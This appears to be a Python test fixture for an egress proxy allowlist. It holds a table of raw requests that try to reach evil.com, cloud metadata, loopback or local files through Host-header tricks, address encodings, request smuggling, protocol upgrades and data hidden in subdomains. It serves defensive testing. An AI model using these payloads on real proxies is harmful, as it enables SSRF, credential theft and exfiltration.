"""Owns what is said to the proxy to have it reach what no list names; pure data.

What must not come of any of it: an arrival at evil.com or at a forbidden address, or a question for a name not listed.
"""

from __future__ import annotations

from typing import Final

from tests.rig import addresses

_EVIL: Final = addresses.EVIL[0]


def _say(text: str) -> dict[str, object]:
    return {"do": "proxy_bytes", "send": text, "receive": True}


def _get(target: str, *headers: str, version: str = "HTTP/1.1") -> dict[str, object]:
    lines = [f"GET {target} {version}", *headers, "Connection: close"]
    return _say("\r\n".join(lines) + "\r\n\r\n")


def _connect(target: str, *headers: str) -> dict[str, object]:
    return _say("\r\n".join([f"CONNECT {target} HTTP/1.1", *headers]) + "\r\n\r\n")


_INNER: Final = "GET http://evil.com/smuggled HTTP/1.1\r\nHost: evil.com\r\n\r\n"
_LISTED: Final = "Host: example.com"

GAMES: Final[dict[str, dict[str, object]]] = {
    "a host not listed": _get("http://evil.com/", "Host: evil.com"),
    "a host not listed, by CONNECT": _connect("evil.com:443", "Host: evil.com:443"),
    "a host not listed behind a listed Host": _get("http://evil.com/", _LISTED),
    "a listed target with a Host not listed": _get("/", "Host: evil.com"),
    "CONNECT to a host not listed behind a listed Host": _connect("evil.com:443", _LISTED),
    "two Host headers": _get("http://example.com/", _LISTED, "Host: evil.com"),
    "forwarding headers": _get("http://evil.com/", _LISTED, "X-Forwarded-Host: example.com", "Forwarded: host=a"),
    "a listed name as user": _get("http://example.com@evil.com/", _LISTED),
    "a listed name as user, by CONNECT": _connect("example.com@evil.com:443", _LISTED),
    "a backslash behind a listed name": _get("http://evil.com\\@example.com/", _LISTED),
    "a fragment behind a name": _get("http://evil.com#@example.com/", _LISTED),
    "an encoded dot": _get("http://evil%2ecom/", _LISTED),
    "an encoded end of text": _get("http://evil.com%00.example.com/", _LISTED),
    "an end of text": _get("http://evil.com\0.example.com/", _LISTED),
    "a tab in a name": _get("http://evil.com\t.example.com/", _LISTED),
    "a dot at the end": _get("http://evil.com./", "Host: evil.com."),
    "upper case": _get("http://EVIL.COM/", "Host: EVIL.COM"),
    "a wide dot": _get("http://evil\uff0ecom/", _LISTED),
    "an address": _get(f"http://{_EVIL}/", f"Host: {_EVIL}"),
    "an address, by CONNECT": _connect(f"{_EVIL}:443", _LISTED),
    "an address as one number": _get("http://1572395074/", _LISTED),
    "an address in hexadecimal digits": _get("http://0x5d.0xb8.0xd8.0x42/", _LISTED),
    "an address in octal digits": _get("http://0135.0270.0330.0102/", _LISTED),
    "an address of two parts": _get("http://93.12112962/", _LISTED),
    "the metadata service": _get(f"http://{addresses.METADATA}/latest/meta-data/", _LISTED),
    "the metadata service by CONNECT": _connect(f"{addresses.METADATA}:80", _LISTED),
    "the metadata service in IPv6": _get(f"http://[{addresses.METADATA_V6}]/", _LISTED),
    "the metadata service in IPv4 in IPv6": _get(f"http://[::ffff:{addresses.METADATA}]/", _LISTED),
    "loopback": _get("http://127.0.0.1:3128/", _LISTED),
    "localhost": _get("http://localhost:3128/", _LISTED),
    "a resolver, by CONNECT": _connect(f"{addresses.RESOLVER_V4}:53", _LISTED),
    "another port of a listed host": _connect("example.com:22", _LISTED),
    "port 0": _connect("example.com:0", _LISTED),
    "a port beyond all": _connect("example.com:65979", _LISTED),
    "a name with a listed suffix": _get("http://evil-example.com/", "Host: evil-example.com"),
    "a name with a listed prefix": _get("http://example.com.evil.com/", "Host: example.com.evil.com"),
    "data in names not listed": _get("http://c3dvcmRmaXNo.evil.com/", "Host: c3dvcmRmaXNo.evil.com"),
    "a listed name with a private address": _get("http://private.example.com/", "Host: private.example.com"),
    "a listed name of the metadata service": _get("http://metadata.example.com/", "Host: metadata.example.com"),
    "a listed name with one private address": _get("http://mixed.example.com/", "Host: mixed.example.com"),
    "a second request in the body of the first": _say(
        f"GET http://example.com/ HTTP/1.1\r\n{_LISTED}\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n"
        f"0\r\n\r\n{_INNER}"
    ),
    "two lengths": _say(
        f"POST http://example.com/ HTTP/1.1\r\n{_LISTED}\r\nContent-Length: 0\r\nContent-Length: 60\r\n\r\n{_INNER}"
    ),
    "a length with a sign": _say(
        f"POST http://example.com/ HTTP/1.1\r\n{_LISTED}\r\nContent-Length: +0\r\n\r\n{_INNER}"
    ),
    "a chunk size that is none": _say(
        f"POST http://example.com/ HTTP/1.1\r\n{_LISTED}\r\nTransfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n{_INNER}"
    ),
    "a second request on the same connection": _say(f"GET http://example.com/ HTTP/1.1\r\n{_LISTED}\r\n\r\n{_INNER}"),
    "a line that ends early": _say(f"GET http://example.com/ HTTP/1.1\n{_LISTED}\nX: y\n\n{_INNER}"),
    "a header that goes on": _get("http://evil.com/", "Host:", " example.com"),
    "a space before a colon": _get("http://evil.com/", "Host : example.com"),
    "a line break in a target": _get("http://example.com/\rHost:\tevil.com", _LISTED),
    "a request of HTTP/0.9": _say("GET http://evil.com/\r\n"),
    "the preface of HTTP/2": _say("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "an upgrade to HTTP/2": _get("http://evil.com/", _LISTED, "Upgrade: h2c", "HTTP2-Settings: AAMAAABk"),
    "a web socket": _get("http://evil.com/", _LISTED, "Upgrade: websocket", "Sec-WebSocket-Version: 13"),
    "another scheme": _get("ftp://evil.com/", _LISTED),
    "a file": _get("file:///etc/passwd", _LISTED),
    "a head without an end": {**_say("GET http://evil.com/ HTTP/1.1\r\nX: "), "pad": 70000},
    "credentials of the proxy": _get("http://evil.com/", _LISTED, "Proxy-Authorization: Basic cm9vdDpyb290"),
    "a TLS hello instead of a request": {"do": "proxy_bytes", "send_hex": "16030100050100000100", "receive": True},
    "a SOCKS request": {"do": "proxy_bytes", "send_hex": "0501000501000308" + "6576696c2e636f6d" + "0050"},
    "another server name in a listed tunnel": {"do": "proxy_tls", "host": "example.com", "sni": "evil.com"},
    "no TLS in a listed tunnel": {"do": "proxy_raw", "host": "example.com", "port": 443, "send": _INNER},
}
"""By the line of the table."""
